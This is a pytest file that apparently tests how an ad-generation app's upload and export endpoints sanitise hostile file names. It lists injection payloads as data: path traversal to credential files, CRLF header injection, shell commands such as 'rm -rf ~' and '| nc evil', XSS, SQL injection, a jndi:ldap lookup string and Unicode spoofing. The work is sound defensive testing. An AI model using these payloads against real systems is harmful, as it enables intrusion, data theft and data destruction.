"""File names that attack whoever keeps, shows or sends them back."""

from __future__ import annotations

import io
import re
import unicodedata
import zipfile
from types import SimpleNamespace
from urllib.parse import unquote

import httpx
import pytest
from PIL import Image

from adgen import launch
from adgen.commands import Commands
from adgen.domain import Person
from adgen.errors import InputRejected
from adgen.store.database import Database
from tests.asking import Client
from tests.conftest import PASSWORD

NAMES = [
    # Out of the folder.
    *("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\boot.ini"),
    *("%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afx", "\\\\server\\share\\x.png"),
    *("file:///etc/passwd", "....//....//x"),
    *("~/.ssh/id_rsa", "./.", "..", ".", ".htaccess", ".bashrc"),
    # Into a header, a log, a terminal, a shell.
    *("a\r\nSet-Cookie: x=1.png", "a\nX-Evil: 1.png", "a\r\n\r\n<html>.png", "a\x00.png", "\x00"),
    *("\x1b[2J\x1b]0;evil\x07.png", "a\x08\x08.png", "\x7f.png", "a\u2028b\u2029c.png", "\x85.png"),
    *("$(reboot).png", "`reboot`.png", "; rm -rf ~ ;.png", "| nc evil 1.png", "-rf", "--help.png"),
    # Into a page or a quoted value.
    *('"><script>window.__xss=1</script>.png', "<img src=x onerror=alert(1)>.png"),
    *("a\"; x=\"b.png"),
    *("a'; DROP TABLE users;--.png", "{{7*7}}.png", "${jndi:ldap://x}.png", "javascript:alert(1)"),
    *("[click](http://evil.example).png", "**bold** $x^2$ :red[x].png", "=HYPERLINK(\"x\").png"),
    # What looks like something else, or like nothing.
    *("photo\u202egnp.exe", "\ufeffa.png", "\u200b\u200d", "e\u0301\u0301" * 99, "ﷺ" * 200),
    *("a" * 999 + ".png", "CON.png", "NUL", "aux.jpg", "x.png:stream", "x.php.png", "x.png/"),
    *("", " ", "   .png", "写真.png", "صورة.png", "😀😀.png", "ß" * 300, "a\ud800b.png"),
]  # fmt: skip


@pytest.fixture
def client(
    commands: Commands, database: Database, person: Person, monkeypatch: pytest.MonkeyPatch
) -> SimpleNamespace:
    """The API in this process, an ad, and who may change it."""
    monkeypatch.setattr(
        launch, "_running", SimpleNamespace(commands=commands, database=database)
    )  # fmt: skip
    token, _ = commands.sign_in(person.email, PASSWORD)
    api, headers = Client(), {"Authorization": f"Bearer {token}"}
    return SimpleNamespace(
        ask=lambda method, url, **more: api.ask(method, url, headers=headers, **more),
        ad=commands.create_ad(person).id,
        commands=commands,
        person=person,
    )


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (300, 300), "teal").save(out, "PNG")
    return out.getvalue()


def offered_name(answer: httpx.Response) -> str:
    """The name under which a browser would keep the file, after RFC 6266."""
    raw = next(v for k, v in answer.headers.raw if k.lower() == b"content-disposition")
    assert raw.isascii()
    assert not set(raw) & set(b"\r\n\0")
    said = raw.decode()
    assert said.startswith("attachment; ")
    if found := re.fullmatch(r"attachment; filename\*=utf-8''([\w.%!#$&+^`|~-]+)", said):
        return unquote(found[1], errors="strict")
    [plain] = re.fullmatch(r'attachment; filename="([^"\\/]+)"', said).groups()  # type: ignore[union-attr]
    return plain


def harmless(name: str) -> bool:
    """A name that is one file's, in any folder of any system, and looks like what it is."""
    hidden = [c for c in name if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
    return bool(name) and not hidden and not set(name) & set('/\\:*?"<>|') and name[0] not in ".-~"


def test_a_hostile_name_is_kept_and_given_back_harmless(client: SimpleNamespace) -> None:
    data = png()
    assert len(NAMES) >= 50
    for name in NAMES:
        sent = name.encode("utf-8", "replace").decode()
        photo = {"file": (sent or "file", data, "image/png")}
        answer = client.ask("POST", f"/api/sessions/{client.ad}/photos", files=photo)
        assert answer.status_code == 201, (name, answer.text)
        asset = answer.json()["asset_id"]
        [kept] = client.commands.load_ad(client.person, client.ad).photos
        assert harmless(str(kept.details["name"])), (name, kept.details["name"])
        given = client.ask("GET", f"/api/files/{asset}", params={"download": sent})
        assert harmless(offered_name(given)), (name, offered_name(given))
        assert given.headers["content-type"] == "image/jpeg"
        client.ask("DELETE", f"/api/sessions/{client.ad}/photos/{asset}")


def test_an_ad_of_a_hostile_name_is_exported_under_a_harmless_one(client: SimpleNamespace) -> None:
    for name in NAMES:
        try:
            client.commands.rename_ad(
                client.person, client.ad, name.encode("utf-8", "replace").decode()
            )
        except InputRejected:
            continue
        for file in ("deck.html", "files.zip"):
            answer = client.ask("GET", f"/api/sessions/{client.ad}/{file}")
            assert answer.status_code == 200, (name, answer.text)
            assert harmless(offered_name(answer)), (name, offered_name(answer))
        with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
            for inside in archive.namelist():
                assert ".." not in inside
                assert not inside.startswith("/")


@pytest.mark.parametrize("name", [b"a\r\nX: 1", b"\xff\xfe.png", b'a"; name="session_id', b"\x00"])
def test_a_name_that_breaks_its_own_envelope_is_no_failure_of_ours(
    client: SimpleNamespace, name: bytes
) -> None:
    head = b'--b\r\nContent-Disposition: form-data; name="file"; filename="' + name + b'"\r\n\r\n'
    # Sent by hand: no client would write it.
    token, _ = client.commands.sign_in(client.person.email, PASSWORD)
    sent = Client().ask(
        "POST",
        f"/api/sessions/{client.ad}/photos",
        content=head + png() + b"\r\n--b--\r\n",
        headers={
            "Content-Type": "multipart/form-data; boundary=b",
            "Authorization": f"Bearer {token}",
        },
    )
    assert sent.status_code in (201, 400, 422)
